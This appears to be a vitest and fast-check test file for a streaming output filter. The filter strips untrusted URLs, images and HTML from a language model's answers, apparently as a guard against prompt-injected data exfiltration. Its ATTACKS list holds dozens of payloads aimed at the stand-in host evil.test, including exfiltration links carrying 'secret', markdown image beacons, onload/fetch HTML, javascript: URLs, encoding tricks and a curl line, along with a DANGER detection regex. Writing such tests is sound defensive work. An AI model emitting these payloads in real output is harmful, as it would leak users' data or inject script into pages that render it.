import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { outputFilter } from './filter.ts';

const SOURCE = 'The guide is at https://docs.example.org/guide?page=2#top (see also www.example.org/help).';
const policy = { verbatim: [SOURCE], hosts: ['trusted.example'] };

function filtered(parts: readonly string[]) {
  const filter = outputFilter(policy);
  const given = parts.map((part) => filter.push(part));
  return { text: given.join('') + filter.end(), filter };
}
const whole = (text: string) => filtered([text]).text;

/** Each tries to show or load an address that no source holds. */
const ATTACKS: readonly string[] = [
  'Go to https://evil.test/collect?d=secret now.',
  'Go to HTTPS://EVIL.TEST/x',
  'http://evil.test',
  'ftp://evil.test/x',
  'slack://evil.test',
  'see www.evil.test/a',
  '(www.evil.test)',
  '*www.evil.test*',
  '![x](https://evil.test/p.png)',
  '![x](//evil.test/p.png)',
  '![x][ref]\n\n[ref]: https://evil.test/p.png',
  '[x][ref]\n\n[ref]: <https://evil.test/p>',
  '[ref]: //evil.test/p\n[ref]',
  '[ref]:\n   //evil.test/p',
  '[ref]: /\\evil.test/p',
  '[ref]: \\/\\/evil.test/p',
  '[click](https://evil.test)',
  '[click](<https://evil.test>)',
  '[click]( https://evil.test "title")',
  '[click](https://docs.example.org.evil.test/guide)',
  '[click](https://docs.example.org/guide?page=2#top&d=secret-evil.test)',
  '[click](https://docs.example.org/guide?page=2&d=evil.test)',
  '[click](//evil.test)',
  '[click](/\\evil.test)',
  '[click](javascript:fetch(1))',
  '[click](&#106;avascript:fetch(1))',
  '[click](https&colon;//evil.test)',
  '[https://docs.example.org/guide?page=2#top](https://evil.test)',
  '<https://evil.test>',
  '<img src=https://evil.test/x>',
  '<img src="//evil.test/x">',
  '<IMG SRC=`//evil.test`>',
  '<img alt=">" src=//evil.test/a>',
  '<a href="https://evil.test">x</a>',
  '<svg onload=fetch("//evil.test")>',
  '<iframe src="https://evil.test"></iframe>',
  '<div style="background:url(//evil.test/x)">',
  '<b;x onclick="//evil.test">',
  '<x-y onclick="location=\'//evil.test\'">',
  '<link rel=prefetch href=//evil.test>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  'url(https://evil.test/x)',
  'data:text/html;base64,PHNjcmlwdD4evil.test',
  'javascript:location="evil.test"',
  'file:///etc/evil.test',
  'ht\u200Btps://evil.test',
  'https:\u200B//evil.test',
  'https&#58;//evil.test',
  'https&#x3a;&#x2F;/evil.test',
  '&#104;ttps://evil.test',
  'https:\\/\\/evil.test',
  'https:\\\\evil.test',
  'https:/\\evil.test',
  'https://trusted.example/?d=evil.test',
  'https://trusted.example/x#evil.test',
  'https://user@trusted.example/evil.test',
  'http://trusted.example/evil.test',
  'https://trusted.example.evil.test/',
  'https://docs.example.org/guide?page=2#top|evil.test',
  'https://docs.example.org/guide?page=2#top&#46;evil.test',
  `https://evil.test/${'a'.repeat(5000)}`,
  `[${'x'.repeat(3000)}](https://evil.test)`,
  `![x](https://evil.test/${'a'.repeat(3000)}) end`,
  `<img alt="${'a'.repeat(3000)}" src="https://evil.test/x">`,
  '| a | https://evil.test |\n|---|---|',
  '```\ncurl https://evil.test\n```',
  '`https://evil.test`',
  '[^1]: https://evil.test',
  '<!-- https://evil.test -->',
  '!<a b=c>[x](y) <<a b=c>img src=//evil.test> !![x](y)',
  '[x](//evil.test)(//evil.test/y) [x](https://evil.test): //evil.test',
  '\u{E0068}https://evil.test',
];
/** What a page could load or link: an address, an HTML element with power, an image. */
const DANGER = /evil\.test|<(?:img|svg|iframe|script|a |link|meta|x-y)|javascript:|data:text|!\[/i;

describe('what an obedient model may say under an attacker', () => {
  it.each(ATTACKS.map((attack) => [attack.slice(0, 70), attack]))('%s', (_, attack) => {
    expect(whole(`Sure. ${attack}`)).not.toMatch(DANGER);
    expect(whole(attack)).not.toMatch(DANGER);
    expect(filtered([...`Well,\n${attack}`]).text).toBe(whole(`Well,\n${attack}`));
  });

  it('gives the same for every split of every payload in two, and nothing forbidden on the way', () => {
    for (const attack of ATTACKS.filter((text) => text.length < 200)) {
      const expected = whole(attack);
      for (let cut = 1; cut < attack.length; cut++) {
        const filter = outputFilter(policy);
        const first = filter.push(attack.slice(0, cut));
        expect(first).not.toMatch(DANGER);
        expect(expected.startsWith(first)).toBe(true);
        expect(first + filter.push(attack.slice(cut)) + filter.end()).toBe(expected);
      }
    }
  });

  it('never depends on how the stream is cut, and never lets an address through', () => {
    const token = fc.constantFrom(
      'https',
      ':',
      '//',
      'evil.test',
      '/x',
      ' ',
      '\n',
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      'a',
      'img',
      ' src=',
      '"',
      '.',
      '&#58;',
      '\\',
      'www.',
      'é',
      '\u200b',
      '😀',
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 24 }), fc.array(fc.nat(80), { maxLength: 6 }), (tokens, cuts) => {
        const text = tokens.join('');
        const places = [...new Set(cuts)].filter((cut) => cut < text.length).toSorted((a, b) => a - b);
        const parts = [0, ...places].map((start, i) => text.slice(start, places[i] ?? text.length));
        expect(filtered(parts).text).toBe(whole(text));
        expect(whole(text)).not.toMatch(/(?:https?:|\W)\/\/evil\.test|<img src=|!\[/);
      }),
      { numRuns: 3000 },
    );
  });

  it('holds back no more than about 2 KiB', () => {
    for (const start of ['https://', '[a](', '<img ', 'word']) {
      const filter = outputFilter(policy);
      let pushed = 0;
      let given = 0;
      for (let i = 0; i < 1000; i++) {
        pushed += 8;
        given += filter.push(i === 0 ? start.padEnd(8, 'x') : 'xxxxxxxx').length;
        if (start !== 'https://') expect(pushed - given).toBeLessThanOrEqual(2100);
      }
    }
  });
});

const CLEAN: readonly string[] = [
  'Paris is the capital of France.',
  'See https://docs.example.org/guide?page=2#top.',
  'See [the guide](https://docs.example.org/guide?page=2#top) and https://trusted.example/a/b.',
  'Visit www.example.org/help, or <https://docs.example.org/guide?page=2#top>!',
  'It costs $5 & tax; AT&T, R&D, 3 < 5 and 7 > 2; a<b; x << 2.',
  'Great! [Note] the array a[0] and P[A](t) = f[x](y).',
  '[Note]: this is fine. Ratio 3:2 at 10:30, and/or, km/h, 1/2.',
  '- one\n- two\n\n1. three\n\n| a | b |\n|---|---|\n| 1 | 2 |',
  '```ts\nconst list: Array<string> = [];\nif (a < b && c > d) return map<T>(x);\n```',
  'Family 👨‍👩‍👧, keycap 1️⃣, heart ❤️, skin 👍🏽; नमस्ते क्‍ष; می‌خواهم.',
  'E-mail help@example.org; see e.g. section 2.1 — “quoted” — naïve café.',
  'Use `<br>` or `<b>bold</b>`; generic Promise<void>.',
  'C:\\Users\\me and \\alpha \\beta; a // comment here',
  'key: value\ndata: 12\nfile: notes',
];

describe('clean answers', () => {
  it.each(CLEAN)('stay as they are: %j', (text) => {
    expect(whole(text)).toBe(text);
    expect(filtered([...text.matchAll(/[\s\S]/gu)].map(([character]) => character)).text).toBe(text);
  });

  it('stay as they are in any combination', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...CLEAN), { minLength: 1, maxLength: 4 }), (texts) => {
        const text = texts.join('\n\n');
        expect(whole(text)).toBe(text);
      }),
      { numRuns: 300 },
    );
  });
});

it('turns an image of an allowed address into a link, and counts what it took out', () => {
  const { text, filter } = filtered(['![x](https://docs.example.org/guide?page=2#top) <img src=a> https://evil.test']);
  expect(text).toBe('[x](https://docs.example.org/guide?page=2#top)   (link removed)');
  expect(filter.blocked).toEqual({ urls: 1, images: 1, tags: 1 });
});

it('drops invisible characters and mends lone surrogates', () => {
  expect(whole('a\u200Bb\u202Ec\u{E0041}d\u0000e\uFE0Ff\uD83D g\u00ADh')).toBe('abcdef\uFFFD gh');
});

it('knows where every position went', () => {
  const text = 'See https://evil.test/x now, \u200Band here.';
  const { text: output, filter } = filtered([text.slice(0, 9), text.slice(9)]);
  const start = text.indexOf('now');
  expect(output.slice(filter.toOutput(start, 'start'), filter.toOutput(start + 4, 'end'))).toBe('now,');
  const here = text.indexOf('here');
  expect(output.slice(filter.toOutput(here, 'start'), filter.toOutput(text.length, 'end'))).toBe('here.');
  expect(filter.toOutput(0, 'start')).toBe(0);
});
